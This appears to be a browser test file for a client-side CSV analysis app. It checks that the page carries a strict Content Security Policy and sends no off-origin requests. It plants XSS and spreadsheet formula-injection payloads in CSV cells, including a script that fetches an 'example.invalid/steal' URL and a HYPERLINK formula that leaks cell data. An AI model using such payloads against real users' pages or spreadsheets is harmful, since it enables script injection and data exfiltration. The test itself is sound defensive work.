// Issue 7: every request the page makes while a file is analysed and exported is a
// same-origin GET of the app's own files; the built page carries a strict CSP.
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { settled, dropFiles, exportCsv, parseCsv, toCsv, assert } from './helpers.mjs';

export const name = 'nothing leaves the tab: no request but same-origin GETs of the app';

export default async function ({ page, context, baseUrl, dir, root, generate }) {
  const html = readFileSync(join(root, 'dist/index.html'), 'utf8');
  const csp = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)"/)?.[1] ?? '';
  for (const rule of ["default-src 'self'", "script-src 'self' 'wasm-unsafe-eval'", "object-src 'none'", "base-uri 'none'", "form-action 'none'"]) {
    assert(csp.includes(rule), `dist/index.html CSP has ${rule}: ${csp}`);
  }
  assert(/connect-src 'self'|connect-src 'none'/.test(csp), `connect-src is restricted: ${csp}`);
  assert(!/<script(?![^>]*\bsrc=)[^>]*>/.test(html), 'no inline script in dist/index.html');

  const requests = [];
  // Context-level events include the worker's and the service worker's requests.
  context.on('request', (r) => requests.push({ url: r.url(), method: r.method(), phase: 'any' }));
  await page.goto(baseUrl);
  await page.waitForLoadState('networkidle');
  const loaded = requests.length;
  const file = join(dir, 'customers.csv');
  generate(800, 3, file);
  // Cells that would phone home or open a dialog if they were ever treated as markup.
  const rows = parseCsv(readFileSync(file, 'utf8'));
  const jobs = rows[0].findIndex((h) => h.startsWith('What are you trying'));
  rows[1][jobs] = '<img src="http://example.invalid/pixel.png" onerror="alert(1)"> invoices with VAT';
  rows[2][jobs] = '<script>fetch("https://example.invalid/steal")</script> plastic free packaging';
  rows[3][jobs] = '=HYPERLINK("https://example.invalid/?q="&A1,"click")';
  const bytes = Buffer.from(toCsv(rows));
  const dialogs = [];
  page.on('dialog', (d) => { dialogs.push(d.message()); d.dismiss(); });
  await dropFiles(page, [{ name: 'customers.csv', bytes }]);
  assert(await settled(page) === 'done', await page.textContent('[data-testid=status]'));
  await page.locator('[data-testid=segment]').first().click();
  await exportCsv(page);
  await page.waitForTimeout(300);
  assert(dialogs.length === 0, `no dialog opened by a cell: ${dialogs.join(', ')}`);
  const origin = new URL(baseUrl).origin;
  for (const r of requests) {
    const u = new URL(r.url);
    const own = u.origin === origin || u.protocol === 'blob:' || u.protocol === 'data:';
    assert(own, `no off-origin request, ever: ${r.method} ${r.url}`);
    if (u.protocol === 'http:' || u.protocol === 'https:') assert(r.method === 'GET', `only GETs: ${r.method} ${r.url}`);
  }
  // After load, the only requests are for files of the built site itself (the service worker
  // may fetch them to cache them); nothing carries the user's data anywhere.
  const own = new Set(readdirSync(join(root, 'dist'), { recursive: true }).map((f) => `/${f}`));
  const after = requests.slice(loaded).filter((r) => !r.url.startsWith('blob:') && !r.url.startsWith('data:'));
  for (const r of after) {
    const path = new URL(r.url).pathname;
    assert(path === '/' || own.has(path), `after load, only the app's own files: ${r.url}`);
  }
}
